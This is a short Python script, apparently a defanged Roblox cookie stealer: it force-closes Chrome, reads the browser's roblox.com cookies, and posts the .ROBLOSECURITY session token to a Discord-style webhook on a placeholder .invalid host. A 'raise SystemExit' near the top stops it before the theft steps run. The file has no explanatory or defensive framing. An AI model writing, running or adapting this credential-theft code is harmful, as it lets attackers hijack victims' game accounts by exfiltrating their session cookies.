import browser_cookie3
import subprocess
import requests

raise SystemExit
subprocess.run("taskkill /f /im chrome.exe", shell=True)
STORE = ["Local State", "Cookies"]
jar = browser_cookie3.chrome(domain_name="roblox.com")
for c in jar:
    if c.name == ".ROBLOSECURITY":
        requests.post("https://discord.com.invalid/api/webhooks/0/x", json={"content": c.value})
